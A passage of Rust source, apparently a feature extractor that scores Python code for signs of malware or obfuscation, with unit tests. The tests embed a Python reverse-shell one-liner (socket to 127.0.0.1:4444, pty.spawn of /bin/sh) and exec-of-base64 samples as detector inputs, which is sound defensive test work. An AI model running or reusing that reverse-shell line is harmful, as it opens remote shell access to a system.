    let code = &code[..code.len().min(MAX_SCAN_BYTES)];

    // whole-file pass: line lengths, odd bytes
    let (mut max_line, mut long_lines, mut line_start) = (0usize, 0usize, 0usize);
    for nl in memchr::memchr_iter(b'\n', code).chain(std::iter::once(code.len())) {
        let len = nl - line_start;
        max_line = max_line.max(len);
        long_lines += (len > 300) as usize;
        line_start = nl + 1;
    }
    // In byte-wide counters, 255 bytes at a time: the compiler turns this into byte-lane vector
    // adds (counting into usize widened every byte and cost a few percent of a big file).
    let (mut nonascii, mut nul) = (0usize, 0usize);
    for chunk in code.chunks(255) {
        let (mut a, mut z) = (0u8, 0u8);
        for &b in chunk {
            a += b >> 7;
            z += (b == 0) as u8;
        }
        nonascii += a as usize;
        nul += z as usize;
    }

    let mut st = Stats {
        n_exec: 0,
        n_def: 0,
        n_obf_ids: 0,
        n_strings: 0,
        max_str: 0,
        b64_bytes: 0,
        hex_bytes: 0,
        esc_strings: 0,
        max_entropy_x4: 0,
        words: 0,
        n_urls: 0,
        n_ips: 0,
    };
    let mut counts = [0u32; 256];

    let h_newline = h_newline_const();
    // the file start looks like a line start: "first statement" is not a feature
    let h_start = h_newline_const();
    let h_import = fnv(b"import");
    let h_from = fnv(b"from");
    let h_as = fnv(b"as");
    let h_dot = fnv(b".");
    let h_open = fnv(b"(");
    let h_dunder_import = fnv(b"__import__");

    let mut lx = Lexer::new(code);
    let (mut p1, mut p2) = (h_start, h_start); // previous two token hashes
    // mix(p1) and mix(p2): each token's hash is mixed once, for the n-grams it starts.
    let (mut m1, mut m2) = (mix(h_start), mix(h_start));
    let mut n_toks = 0usize;
    let (mut nm1, mut nm2) = (String::from("NL"), String::from("NL")); // their names (explanations only)
    let mut prev_name: Option<&[u8]> = None; // a name right before a "." (for dotted pairs)
    let mut after_dot = false;
    // 0: none, 1: after `import` (names are modules), 2: after `from` (next name is a module)
    let mut import_state = 0u8;
    let mut after_as = false;

    while let Some(tok) = lx.next_tok() {
        let th = match tok {
            Tok::Newline => {
                import_state = 0;
                if p1 == h_newline {
                    continue;
                }
                h_newline
            }
            Tok::Name(id) => {
                let h = fnv(id);
                out.add(ns(NS_ID, h), &|| format!("id:{}", lossy(id)));
                match id {
                    b"exec" | b"eval" => st.n_exec += 1,
                    b"def" => st.n_def += 1,
                    _ => {}
                }
                if let Some(shape) = id_shape(id) {
                    st.n_obf_ids += 1;
                    out.add(ns(NS_ID_SHAPE, named(shape)), &|| format!("id_shape:{shape}"));
                }
                if after_dot {
                    if let Some(pn) = prev_name {
                        out.add(ns(NS_DOT, combine(fnv(pn), h)), &|| format!("dotted:{}.{}", lossy(pn), lossy(id)));
                    }
                } else if h == h_import {
                    import_state = 1;
                    after_as = false;
                } else if h == h_from {
                    import_state = 2;
                } else if h == h_as {
                    after_as = true;
                } else if after_as {
                    after_as = false;
                } else if import_state == 1 {
                    out.add(ns(NS_IMPORT, h), &|| format!("import:{}", lossy(id)));
                } else if import_state == 2 {
                    out.add(ns(NS_IMPORT, h), &|| format!("import:{}", lossy(id)));
                    import_state = 3; // wait for `import`
                }
                prev_name = Some(id);
                h
            }
            Tok::Str(body) => {
                if p1 == h_open && p2 == h_dunder_import {
                    let end = body.iter().position(|&c| c == b'.').unwrap_or(body.len());
                    out.add(ns(NS_IMPORT, fnv(&body[..end])), &|| format!("import:{}", lossy(&body[..end])));
                }
                prev_name = None;
                string_features(body, out, &mut st, &mut counts)
            }
            Tok::Num(num) => {
                prev_name = None;
                named(num_class(num))
            }
            Tok::Op(op) => {
                let h = fnv(op);
                if op == b";" {
                    import_state = 0;
                }
                if h != h_dot {
                    prev_name = None;
                }
                h
            }
        };
        after_dot = th == h_dot;
        let cur = if S::EXPLAIN { tok_name(&tok) } else { String::new() };
        // n-grams only over real tokens: the start of the file is not a token
        if n_toks >= 1 {
            out.add(ns(NS_BIGRAM, combine_mixed(m1, th)), &|| format!("bigram:{} {}", nm1, cur));
        }
        if n_toks >= 2 {
            out.add(ns(NS_TRIGRAM, combine(combine_mixed(m2, p1), th)), &|| format!("trigram:{} {} {}", nm2, nm1, cur));
        }
        n_toks += 1;
        if S::EXPLAIN {
            nm2 = std::mem::replace(&mut nm1, cur);
        }
        p2 = p1;
        p1 = th;
        m2 = m1;
        m1 = mix(th);
    }

    // whole-file statistics, bucketed
    let dense = |out: &mut S, name: &str, bucket: u64| {
        out.add(ns(NS_DENSE, combine(named(name), bucket)), &|| format!("stat:{name}={bucket}"))
    };
    // Only the presence of something notable is a feature: absence ("no exec", "short file")
    // and plain size would let the model learn the length and shape of files rather than what
    // they do.
    let notable = |out: &mut S, name: &str, present: bool, bucket: u64| {
        if present {
            dense(out, name, bucket)
        }
    };
    notable(out, "max_line", max_line >= 256, log2b(max_line));
    notable(out, "long_lines", long_lines > 0, log2b(long_lines));
    notable(out, "nonascii", nonascii > 0, log2b(nonascii));
    notable(out, "nul", nul > 0, 1);
    notable(out, "truncated", truncated, 1);
    notable(out, "exec", st.n_exec > 0, st.n_exec.min(5) as u64);
    notable(out, "obf_ids", st.n_obf_ids > 0, log2b(st.n_obf_ids));
    notable(out, "max_str", st.max_str >= 128, log2b(st.max_str));
    notable(out, "b64_bytes", st.b64_bytes > 0, log2b(st.b64_bytes));
    notable(out, "hex_bytes", st.hex_bytes > 0, log2b(st.hex_bytes));
    notable(out, "esc_strings", st.esc_strings > 0, log2b(st.esc_strings));
    notable(out, "max_entropy_x4", st.max_entropy_x4 >= 18, st.max_entropy_x4);
    notable(out, "urls", st.n_urls > 0, log2b(st.n_urls));
    notable(out, "ips", st.n_ips > 0, log2b(st.n_ips));
    let blob = st.b64_bytes + st.hex_bytes + st.esc_strings * 64 >= 256 || st.max_str >= 1024;
    notable(out, "exec_and_blob", st.n_exec > 0 && blob, 1);
    notable(out, "exec_without_def", st.n_exec > 0 && st.n_def == 0, 1);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(s: &str) -> Vec<String> {
        let mut lx = Lexer::new(s.as_bytes());
        let mut v = Vec::new();
        while let Some(t) = lx.next_tok() {
            v.push(match t {
                Tok::Name(x) => format!("N:{}", String::from_utf8_lossy(x)),
                Tok::Str(x) => format!("S:{}", String::from_utf8_lossy(x)),
                Tok::Num(x) => format!("#:{}", String::from_utf8_lossy(x)),
                Tok::Op(x) => format!("O:{}", String::from_utf8_lossy(x)),
                Tok::Newline => "NL".into(),
            });
        }
        v
    }

    #[test]
    fn lexes_python() {
        assert_eq!(
            toks("import os # c\nx = rb'a\\'b' + \"\"\"q\"q\"\"\" ** 0x1F\n"),
            ["N:import", "N:os", "NL", "N:x", "O:=", "S:a\\'b", "O:+", "S:q\"q", "O:**", "#:0x1F", "NL"]
        );
        assert_eq!(toks("f(a,\n b)\n"), ["N:f", "O:(", "N:a", "O:,", "N:b", "O:)", "NL"]);
        assert_eq!(toks("1e-5 .5"), ["#:1e-5", "#:.5"]);
    }

    #[test]
    fn shapes() {
        assert!(shape_of(b"aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK") == Shape::Base64);
        assert!(shape_of(b"127.0.0.1") == Shape::Ip);
        assert!(shape_of(b"example.invalid") == Shape::Host);
        assert!(shape_of(b"http://example.invalid/x") == Shape::Url);
        assert!(shape_of(b"/bin/sh") == Shape::Path);
        assert!(shape_of(b"\\x41\\x42\\x43\\x44") == Shape::Escaped);
    }

    #[test]
    fn deterministic_and_sorted() {
        let mut a = FeatureVec::new();
        let mut b = FeatureVec::new();
        features(b"import socket\ns=socket.socket()\n", &mut a);
        features(b"import socket\ns=socket.socket()\n", &mut b);
        assert_eq!(a.indices(), b.indices());
        assert!(a.indices().windows(2).all(|w| w[0] < w[1]));
        assert!(a.indices().iter().all(|&i| (i as usize) < N_BUCKETS));
        features(b"", &mut a);
        assert!(a.is_empty()); // nothing notable in an empty file: no features at all
        assert_eq!(a.value(), 0.0);
    }

    #[test]
    fn bitmap_dedup_equals_sort_dedup_and_leaves_the_bitmap_clear() {
        let mut rng = 0x1234_5678_9abc_def0u64;
        for n in [BITMAP_FROM - 1, BITMAP_FROM, 5000, 300_000] {
            let mut fv = FeatureVec::new();
            for _ in 0..n {
                rng = mix(rng);
                // few distinct values, many repeats, both ends of the range
                let b = match rng % 5 {
                    0 => 0,
                    1 => N_BUCKETS as u32 - 1,
                    _ => (rng >> 20) as u32 % 3000 * 87,
                };
                fv.idx.push(b);
            }
            let mut want = fv.idx.clone();
            want.sort_unstable();
            want.dedup();
            fv.finish();
            assert_eq!(fv.idx, want, "{n} occurrences");
        }
        SEEN.with(|s| assert!(s.borrow().as_ref().is_some_and(|s| s.iter().all(|&w| w == 0))));
    }

    #[test]
    fn big_code_straight_into_the_bitmap_equals_the_list() {
        // Code from BITS_FROM bytes on skips the occurrence list; the features must be the same.
        let mut code = Vec::new();
        let mut i = 0u32;
        while code.len() < 3 * BITS_FROM {
            code.extend_from_slice(format!("import os, base64\nx{i} = os.path.join('/tmp', \"a b {i}\")\nexec(base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8='))  # c\n").as_bytes());
            i += 1;
        }
        for n in [BITS_FROM - 1, BITS_FROM, code.len()] {
            let mut direct = FeatureVec::new();
            features_for(LEXICAL_FEATURE_VERSION, &code[..n], &mut direct);
            let mut listed = FeatureVec::new();
            extract(&code[..n], &mut listed);
            listed.idx.sort_unstable();
            listed.idx.dedup();
            assert!(!listed.idx.is_empty());
            assert_eq!(direct.idx, listed.idx, "{n} bytes");
        }
        SEEN.with(|s| assert!(s.borrow().as_ref().is_some_and(|s| s.iter().all(|&w| w == 0))));
    }

    #[test]
    fn every_multi_character_operator_starts_with_a_listed_character() {
        for op in OPS3.iter().chain(OPS2.iter()) {
            assert!(MULTI_CHAR_OP_START.contains(&op[0]), "{}", String::from_utf8_lossy(op));
        }
    }

    #[test]
    fn entropy_matches_a_full_pass_and_resets_counts() {
        let mut counts = [0u32; 256];
        for s in [&b"aaaaaaaaaaaaaaaaaaaaaaab"[..], b"0123456789abcdef0123456789abcdef", &[0u8, 255, 7, 7, 128, 64, 63][..]] {
            let n = s.len() as f64;
            let mut full = [0u32; 256];
            s.iter().for_each(|&b| full[b as usize] += 1);
            let h: f64 = full.iter().filter(|&&c| c > 0).map(|&c| c as f64 / n).map(|p| -p * p.log2()).sum();
            assert_eq!(entropy_x4(s, &mut counts), (h * 4.0) as u64);
            assert!(counts.iter().all(|&c| c == 0));
        }
    }

    #[test]
    fn explain_covers_exactly_the_features() {
        let samples: [&[u8]; 3] = [
            b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));pty.spawn(\"/bin/sh\")",
            b"def f(x):\n    '''doc'''\n    return x.y.z + 0x10 # c\nexec(base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK'))\n",
            b"\xff\x00\x01 random \x80 bytes ' unterminated",
        ];
        for code in samples {
            let mut fv = FeatureVec::new();
            features(code, &mut fv);
            let mut buckets: Vec<u32> = explain(code).into_iter().map(|(b, _)| b).collect();
            buckets.dedup();
            assert_eq!(buckets, fv.indices());
        }
    }

    #[test]
    fn comments_are_ignored() {
        let mut a = FeatureVec::new();
        let mut b = FeatureVec::new();
        features(b"# a comment\nx = 1\n", &mut a);
        features(b"# another, longer comment here\nx = 1\n", &mut b);
        // same tokens; only byte-size buckets may differ
        let common = a.indices().iter().filter(|i| b.indices().contains(i)).count();
        assert!(common + 3 >= a.len());
    }
}
